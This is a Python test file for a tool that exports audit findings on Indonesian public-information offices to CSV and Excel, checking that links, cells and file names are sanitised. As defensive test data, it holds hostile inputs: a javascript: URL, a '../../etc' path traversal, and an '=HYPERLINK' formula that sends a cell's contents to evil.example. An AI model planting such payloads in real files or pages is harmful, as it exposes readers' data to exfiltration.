"""What came from outside: links, cells, characters; and the officer's workbook opened again."""

from __future__ import annotations

import csv
import io
import zipfile
from dataclasses import replace
from datetime import date
from urllib.parse import unquote

import pytest
from python_calamine import CalamineWorkbook

from auditor.model import Status
from reports.findings_json import findings_json
from reports.officer.workbook import HEADER, findings_xlsx
from reports.researcher.tables import documents_csv, findings_csv
from reports.run import Run, with_this
from reports.safe import cell, clip, href, name, plain
from tests.reports.builders import (
    HOSTILE,
    HOSTILE_URLS,
    Stage,
    catalogue,
    finding,
    hostile_stage,
    judgement,
    ordinary,
    ordinary_stage,
    series,
)


def run_of(stage: Stage) -> Run:
    ours = stage.judgement
    return Run(ours, stage.catalogue, with_this(stage.series, ours), stage.changes, stage.matrix, date(2026, 11, 3))


@pytest.mark.parametrize("url", HOSTILE_URLS)
def test_no_hostile_address_is_a_link_but_plain_http(url: str) -> None:
    link = href(url)
    assert not link or link.lower().startswith(("http://", "https://"))
    assert not set('"<>`{|}[] \\\n') & set(link)
    assert link in ("", url) or unquote(link) == url


@pytest.mark.parametrize(
    "url", ["javascript:alert(1)", "data:text/html,x", "//evil.example/", "", None, "https://a@b/"]
)
def test_these_are_no_links(url: str | None) -> None:
    assert href(url) == ""


def test_an_address_of_9000_characters_is_shown_and_not_linked() -> None:
    assert href("https://ppid.contoh.example/" + "a" * 9_000) == ""


def test_an_ordinary_address_is_a_link_as_it_stands() -> None:
    url = "HTTPS://ppid.contoh.example:8443/a b".replace(" ", "%20") + "?x=1&y=ü#z"
    assert href(url) == url


@pytest.mark.parametrize("text", HOSTILE)
def test_no_cell_begins_a_formula_or_breaks_its_line(text: str) -> None:
    guarded = cell(text)
    assert not guarded.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert len(guarded.splitlines()) <= 1
    assert len(guarded) <= 32_000


def test_a_guarded_cell_keeps_its_words() -> None:
    assert cell("=1+1") == "'=1+1"
    assert cell("\t=1+1") == "'\t=1+1"
    assert cell("DPA 2025") == "DPA 2025"
    assert cell("baris satu\r\nbaris dua") == "baris satu baris dua"


def test_characters_that_steer_a_display_stay_visible_as_replacements() -> None:
    assert plain("a\u202eb\x00c\n\td\u2067") == "a\ufffdb\ufffdc\n\td\ufffd"
    assert plain("👩‍👩‍👧‍👦 Laporan 文書") == "👩‍👩‍👧‍👦 Laporan 文書"


def test_a_clipped_text_says_that_it_was_cut() -> None:
    assert clip("a" * 10_000, 10) == "a" * 9 + "…"
    assert clip("  dua \n kata ") == "dua kata"
    assert len(clip("kata " * 2_000, 50)) <= 50


def test_a_name_is_one_component_of_a_path() -> None:
    assert name("Dinas Kesehatan / KB") == "Dinas-Kesehatan-KB"
    assert name("../../etc") == "etc"
    with pytest.raises(ValueError, match="no file name"):
        name("文書")


@pytest.mark.parametrize("table", [findings_csv, documents_csv])
def test_no_cell_of_a_hostile_table_is_a_formula(table: object) -> None:
    content = table(run_of(hostile_stage())).decode()  # type: ignore[operator]
    rows = list(csv.reader(io.StringIO(content)))
    assert len(rows) == len(HOSTILE) + 1
    assert {len(row) for row in rows} == {len(rows[0])}
    assert not [value for row in rows for value in row if value.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_the_follow_up_list_opens_again_with_a_sheet_an_opd() -> None:
    content = findings_xlsx(run_of(ordinary_stage()))
    book = CalamineWorkbook.from_filelike(io.BytesIO(content))
    assert book.sheet_names[:2] == ["Semua", "Diskominfo"]
    assert len(book.sheet_names) == 2 + 9
    rows = book.get_sheet_by_name("Semua").to_python()
    assert rows[0] == [title for title, _ in HEADER]
    assert len(rows) == 1 + len(ordinary())
    first = next(row for row in rows if row[0] == "Hal 0 belum ditemukan")
    assert first[1:4] == ["belum terpenuhi", 2.4, "Diskominfo"]
    assert first[10] == "belum dikerjakan"
    assert content == findings_xlsx(run_of(ordinary_stage())), "the same bytes again"


def test_a_hostile_follow_up_list_holds_texts_only() -> None:
    content = findings_xlsx(run_of(hostile_stage()))
    assert b"HYPERLINK" not in content
    book = CalamineWorkbook.from_filelike(io.BytesIO(content))
    rows = book.get_sheet_by_name("Semua").to_python()
    seen = [row[5] for row in rows[1:]]
    assert '=HYPERLINK("http://evil.example/?"&A1,"klik")' in seen
    with zipfile.ZipFile(io.BytesIO(content)) as packed:
        sheets = [packed.read(entry) for entry in packed.namelist() if "worksheets/sheet" in entry]
    assert sheets
    assert not [sheet for sheet in sheets if b"<f>" in sheet or b"<hyperlink" in sheet]


def test_owners_with_like_names_get_sheets_of_their_own() -> None:
    long = "Dinas Perumahan dan Permukiman Kota Contoh"
    asked = catalogue().criteria[0]
    owners = [long + " Satu", long + " Dua", "History", "[]:*?/\\", "SEMUA"]
    findings = [finding(asked, Status.UNMET, subject=owner, unit=owner, gain=1) for owner in owners]
    book = CalamineWorkbook.from_filelike(io.BytesIO(findings_xlsx(run_of(Stage(judgement(findings))))))
    assert len(set(book.sheet_names)) == 6
    assert all(len(sheet) <= 31 for sheet in book.sheet_names)


def test_the_three_things_are_the_ones_with_most_to_gain_that_somebody_can_do() -> None:
    run = run_of(ordinary_stage())
    assert [(len(action.findings), round(action.gain, 2)) for action in run.today] == [(9, 2.7), (1, 2.4), (1, 1.9)]
    assert all(not f.verdict.reason.startswith("auditor-") for f in run.asked)
    assert run.tasks[0].owner == "Diskominfo"
    assert run.tasks[0].gain == pytest.approx(2.4 + 1.25 + 1.9 + 0.04)


def test_what_one_remedy_mends_is_one_thing_to_do() -> None:
    known = catalogue().criteria
    down = [finding(known[n], Status.UNKNOWN, gain=1.0, text="Hidupkan situs.") for n in range(5)]
    elsewhere = finding(known[5], Status.UNKNOWN, gain=1.0, subject="Dinas 1", unit="Dinas 1", text="Hidupkan situs.")
    other = finding(known[6], Status.UNMET, gain=3.0, text="Lain.")
    run = run_of(Stage(judgement([*down, elsewhere, other])))
    assert [(action.remedy.id, len(action.findings), action.gain) for action in run.today] == [
        ("Unggah Hidupkan situs.", 6, 6.0),
        ("Unggah Lain.", 1, 3.0),
    ]
    assert run.today[0].owners == ("Diskominfo",), "asked once, of whoever keeps the site"
    assert [(w.owner, w.on, len(w.findings)) for w in run.only_waiting] == [("Dinas 1", "Diskominfo", 1)]
    assert [action.opens for action in run.today] == [True, False]


def test_the_series_gets_this_run_once_and_never_a_partial_one() -> None:
    ours = judgement([])
    assert len(with_this(series(9), ours)) == 9
    assert len(with_this((), ours)) == 1
    assert with_this((), replace(ours, partial=("ppid",))) == ()
    assert findings_json(ours) == b"[]\n"
